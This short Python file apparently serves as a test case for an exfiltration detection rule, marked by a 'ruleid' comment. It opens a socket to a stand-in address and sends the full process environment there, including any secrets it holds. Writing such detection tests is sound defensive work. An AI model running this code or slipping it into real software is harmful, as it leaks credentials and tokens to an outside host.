import os
import socket

s = socket.create_connection(("192.0.2.10", 9000))
# ruleid: yara.exfiltration.env_dump_exfil
s.sendall(str(os.environ).encode())
